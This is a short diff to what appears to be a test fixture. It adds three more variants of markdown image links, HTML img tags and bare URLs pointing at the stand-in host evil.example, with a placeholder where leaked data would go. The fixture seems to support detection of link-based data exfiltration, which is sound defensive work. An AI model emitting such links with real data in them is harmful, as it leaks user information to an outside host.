@@ -25,6 +25,7 @@ FOREIGN = r"""
 ![x](https://evil.example/?q=@)
 ![x](https://evil.example/@.png)
 ![x](<https://evil.example/?q=@>)
+![x](<https://evil.example/?q=\>@>)
 ![x]( https://evil.example/?q=@ "title")
 ![x](https://evil.example/?q=@ 'title')
 [x](https://evil.example/?q=@)
@@ -51,6 +52,7 @@ FOREIGN = r"""
 <a href="https://evil.example/?q=@">x</a>
 <a href='https://evil.example/?q=@'>x</a>
 <a href=https://evil.example/?q=@>x</a>
+<img src=https://evil.example/?q=<@>
 <a href = "https://evil.example/?q=@">x</a>
 <img src="https://evil.example/?q=@">
 <img src='//evil.example/?q=@'>
@@ -71,6 +73,7 @@ FOREIGN = r"""
 https://evil.example/?q=@
 http://evil.example/?a=1&b=2&q=@
 https://evil.example/?q=x@
+https://evil.example/?q=>@
 https://evil.example/#@
 www.evil.example/?q=@
 evil.example/?q=@
